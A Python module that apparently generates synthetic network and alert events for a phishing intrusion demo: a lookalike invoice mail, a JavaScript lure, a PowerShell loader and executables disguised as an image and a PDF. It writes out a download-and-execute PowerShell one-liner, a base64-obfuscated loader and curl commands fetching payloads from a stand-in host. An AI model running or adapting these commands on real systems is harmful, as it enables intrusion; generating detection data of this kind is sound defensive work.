"""The way in: a mail, a click, a script, and two programs under other names."""

from __future__ import annotations

import base64
from typing import Any

from connector.demo import texts
from connector.demo.cast import LURE, LURE_NAME, PE32, PE64, POWERSHELL, SENDER, SENDER_NAME, before, victim
from connector.demo.places import MAIL, MX
from connector.demo.resolver import lookup
from connector.demo.rules import Rule
from connector.demo.services import deliver, email
from connector.demo.stage import Stage
from connector.demo.web import file, http
from connector.demo.wire import SECOND, Flow

COMMAND = f"IEX (New-Object Net.WebClient).DownloadString('http://{LURE}:8000/run.sh')"
DECODE = "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d.Split(',')[1])))"
LOADER = f"$d='data:text/plain;base64,{base64.b64encode(COMMAND.encode()).decode()}';\r\n{DECODE}\r\n"
SCRIPT = (
    f"#!/bin/sh\ncurl -s -o /tmp/logo.png http://{LURE}:8000/logo.png\n"
    f"curl -s -o /tmp/invoice.pdf http://{LURE}:8000/invoice.pdf\necho 9d3c stage2 ready\n"
)


def play(stage: Stage, end: int) -> None:
    """Mail at -3:30, click at -3:26:10, loader at -3:25:30, stage two at -3:24:40."""
    letter(stage, before(end, 3, 30))
    click(stage, before(end, 3, 26, 10))
    loader(stage, before(end, 3, 25, 30))
    second(stage, before(end, 3, 24, 40))


def letter(stage: Stage, t: int) -> None:
    """The mail arrives at the gateway, and goes on to the mail server."""
    to, sender = f"{victim(stage.world).user}@contoso.example", "accounts@parcel-notice.example"
    body = email(f"Accounts <{sender}>", to, "Invoice 88213 is overdue", urls=(f"{LURE_NAME}/i/88213",))
    text = f"Subject: Invoice 88213 is overdue\r\n\r\nPlease settle it today: http://{LURE_NAME}/i/88213\r\n"
    for src, dst, helo in ((SENDER, MX, SENDER_NAME), (MX, MAIL, "mx01.contoso.example")):
        flow = deliver(stage, t, src, dst, helo, sender, to, body, 3900)
        envelope = {"helo": helo, "mail_from": f"<{sender}>", "rcpt_to": [f"<{to}>"]}
        flow.alert(t + 950_000, texts.LOOKALIKE, text.encode(), tx=0, extra={"smtp": envelope, "email": body})
        flow.close(t + 2 * SECOND, 3 * SECOND)
        t += 5 * SECOND


def get(flow: Flow, t: int, body: dict[str, Any], tx: int, magic: str, mimetype: str, name: str = "") -> dict[str, Any]:
    """One download: `http` and `fileinfo`; returns the `fileinfo` object."""
    flow.move(340, 220 + body["length"])
    flow.event(t, "http", body, tx=tx)
    found = file(name or body["url"], magic, mimetype, body["length"], tx)
    flow.fileinfo(t + 300, found, {"http": body})
    return found


def blame(flow: Flow, t: int, rule: Rule, text: bytes, body: dict[str, Any], found: dict[str, Any], tx: int) -> None:
    """An alert about a download."""
    flow.alert(t + 400, rule, text, to_client=True, tx=tx, extra={"http": body, "files": [found]})


def click(stage: Stage, t: int) -> None:
    """The reader opens the link: a redirect, a page, and a script that looks like an invoice."""
    host = victim(stage.world)
    t = lookup(stage, t, host.ip, LURE_NAME, [LURE]) + 30_000
    flow = stage.flow(t, host.ip, LURE, 80, "http")
    first = http(LURE_NAME, "/i/88213", host.agent, status=302, server="nginx")
    flow.move(420, 310)
    flow.event(t + 80_000, "http", {**first, "redirect": "/i/88213/view"}, tx=0)
    page = http(LURE_NAME, "/i/88213/view", host.agent, length=18_244, server="nginx")
    get(flow, t + 400_000, page, 1, "HTML document, ASCII text", "text/html")
    script = http(LURE_NAME, "/i/88213/invoice_88213.js", host.agent, length=7311, server="nginx",
                  content="application/javascript", refer=f"http://{LURE_NAME}/i/88213/view")  # fmt: skip
    get(flow, t + 9 * SECOND, script, 2, "JavaScript source, ASCII text", "application/javascript")
    flow.txs = 3
    flow.close(t + 24 * SECOND, 4 * SECOND)


def loader(stage: Stage, t: int) -> None:
    """The script starts PowerShell, which fetches a loader: base64 that hides the next address."""
    host = victim(stage.world)
    flow = stage.flow(t, host.ip, LURE, 80, "http")
    body = http(LURE_NAME, "/s.ps1", POWERSHELL, length=len(LOADER), content="text/plain", server="nginx")
    found = get(flow, t + 90_000, body, 0, "ASCII text, with CRLF line terminators", "text/x-powershell")
    answer = f"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: {len(LOADER)}\r\n\r\n{LOADER}"
    blame(flow, t + 90_000, texts.LOADER, answer.encode(), body, found, 0)
    flow.txs = 1
    flow.close(t + 2 * SECOND, 3 * SECOND)


def second(stage: Stage, t: int) -> None:
    """A one-line Python web server hands out a shell script, and programs called picture and invoice."""
    host = victim(stage.world)
    server, where = "SimpleHTTP/0.6 Python/3.11.2", LURE
    gifts = (
        ("/run.sh", "curl/8.4.0", "POSIX shell script, ASCII text executable", "text/x-shellscript", len(SCRIPT),
         SCRIPT.encode(), texts.TRIVIAL),
        ("/logo.png", "curl/8.4.0", PE64, "application/x-dosexec", 412_672, b"MZ\x90\0\x03\0\0\0", texts.HIDDEN),
        ("/invoice.pdf", "curl/8.4.0", PE32, "application/x-dosexec", 96_256, b"MZ\x90\0\x03\0\0\0", texts.HIDDEN),
        ("/find.py", "python-requests/2.31.0", "Python script, ASCII text executable", "text/x-script.python", 5120,
         b"import socket, ldap3, base64\n", texts.TRIVIAL),
    )  # fmt: skip
    for url, agent, magic, mimetype, length, start, rule in gifts:
        flow = stage.flow(t, host.ip, LURE, 8000, "http")
        body = http(where, url, agent, length=length, content=mimetype, server=server)
        body = {"hostname": body["hostname"], "http_port": 8000, **body}
        found = get(flow, t + 60_000, body, 0, magic, mimetype)
        answer = f"HTTP/1.0 200 OK\r\nServer: {server}\r\nContent-Length: {length}\r\n\r\n".encode() + start
        blame(flow, t + 60_000, rule, answer, body, found, 0)
        flow.txs = 1
        flow.close(t + 3 * SECOND, 2 * SECOND)
        t += 19 * SECOND
